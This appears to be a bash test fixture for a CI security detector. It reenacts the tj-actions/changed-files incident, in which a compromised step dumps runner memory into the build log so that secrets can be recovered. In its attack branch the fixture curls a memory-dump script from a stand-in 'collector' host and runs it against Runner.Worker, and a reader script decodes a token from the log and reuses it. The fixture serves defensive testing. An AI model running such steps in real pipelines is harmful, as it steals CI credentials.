# shellcheck shell=bash disable=SC2016,SC2034,SC2086,SC2154,SC2317 # rig.sh calls it, programs expand it
incident "tj-actions/changed-files: a step reads the runner's memory and prints the secrets into the build's log"

worker 'checkout GITHUB_TOKEN' changed-files
script actions/checkout <<<'http GET api.github.com:8080/repos/octo/app "$GITHUB_TOKEN"'
script actions/changed-files <<'X'
if [ -e "$rig/moved" ]; then
	bash -c "curl -s http://collector:8443/files/memdump.py >/tmp/memdump.py"
	python3 /tmp/memdump.py Runner.Worker >>"$rig/build.log"
else
	python3 -c 'import os; [open(f"/proc/{p}/cmdline").read() for p in os.listdir("/proc") if p == "1"]'
	echo "src/main.c" >>"$rig/build.log"
fi
X
script reader.sh <<'X'
#!/bin/bash
read -r line < <(tail -n 1 "$rig/build.log")
GH_TOKEN=$(base64 -d <<<"$line" | base64 -d) exec gh api user
X
native gh <<<'http GET api.github.com:8080/user "$GH_TOKEN"'

innocent() { work earlier; }
attack() {
	: >$rig/moved
	work app
	job other -- ./reader.sh
}

expect process-scrape High app
expect cross-workflow-reuse Medium app # it still ends by itself
expect use-after-end High app
